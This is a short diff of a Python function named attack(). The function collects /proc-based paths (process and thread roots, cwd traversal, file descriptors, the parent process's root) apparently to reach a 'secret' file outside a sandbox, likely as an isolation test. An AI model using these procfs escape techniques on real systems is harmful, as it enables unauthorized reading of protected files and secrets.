@@ -6,7 +6,7 @@ from pathlib import Path
 
 
 def attack():
-    secret = sys.argv[-1].lstrip("/")
+    secret = next(word for word in sys.argv if "secret" in word).lstrip("/")
     me, task = Path("/proc/self"), Path("/proc/thread-self")
     roots = [me / "root", task / "root", me / "cwd/../../..", *(me / "fd").iterdir()]
     roots += [*Path(f"/proc/{os.getppid()}").glob("root"), *me.glob("task/*/root")]
